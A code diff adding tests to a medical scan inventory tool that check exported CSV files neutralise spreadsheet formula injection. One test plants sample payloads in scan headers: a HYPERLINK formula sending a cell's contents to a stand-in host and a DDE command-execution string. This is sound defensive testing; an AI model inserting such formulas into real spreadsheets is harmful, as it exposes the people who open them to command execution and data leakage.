@@ -11,6 +11,8 @@ from zlib import crc32
 import nibabel
 import numpy as np
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from make_dicom import chest, write_nifti, write_series
 from PIL import Image
 from pydicom import dcmread
@@ -21,7 +23,9 @@ from medpfl.data.check import check
 from medpfl.data.kinds.scans.inventory import in_words, take_inventory
 from medpfl.data.kinds.scans.inventory_copies import with_copies
 from medpfl.data.kinds.scans.inventory_drawn import with_thumbnails
+from medpfl.data.kinds.scans.label_table import Columns, read_rows
 from medpfl.data.kinds.scans.proposal import propose
+from medpfl.data.spreadsheet import as_text, without_apostrophe
 
 
 def _series(folder, slices=20, **values):
@@ -141,6 +145,29 @@ def test_the_draft_filled_in_is_a_label_table(export, tmp_path):
     found = check(root)
     assert not [f.message for f in found if f.level == "error"]
     assert any("3 patients, 3 scans that can be used" in f.message for f in found)
+
+
+@given(st.text(st.sampled_from("'=+-@\t\r5.eE a"), max_size=8))
+def test_no_cell_is_a_formula_and_each_is_read_as_it_was(cell):
+    written = as_text(cell)
+    assert without_apostrophe(written) == cell
+    assert not written.startswith(tuple("=+-@\t\r")) or re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", written, re.I)
+
+
+def test_headers_of_a_stranger_are_no_formulas_in_a_spreadsheet(tmp_path):
+    link = '=HYPERLINK("http://x/?"&B2,"P1")'
+    _series(tmp_path / "ct" / "1", patient=link, SeriesDescription="=cmd|'/C calc'!A0")
+    _series(tmp_path / "ct" / "2", patient="P2")
+    out = tmp_path / "out"
+    CliRunner().invoke(app, ["data", "inventory", str(tmp_path / "ct"), "--out", str(out)])
+    for name in ("inventory.csv", "labels.csv"):
+        rows = list(csv.reader((out / name).read_text().splitlines()))
+        assert f"'{link}" in rows[1]
+        assert not [cell for row in rows for cell in row if cell.startswith("=")]
+    labels = (out / "labels.csv").read_text()
+    (tmp_path / "ct" / "labels.csv").write_text(labels.replace(",,", ",0,", 1).replace(",,P2", ",1,P2"))
+    found = read_rows(tmp_path / "ct" / "labels.csv", Columns())
+    assert {row.patient for row in found.rows} == {link, "P2"}
 
 
 def test_patients_without_an_identifier_are_their_folders(tmp_path):
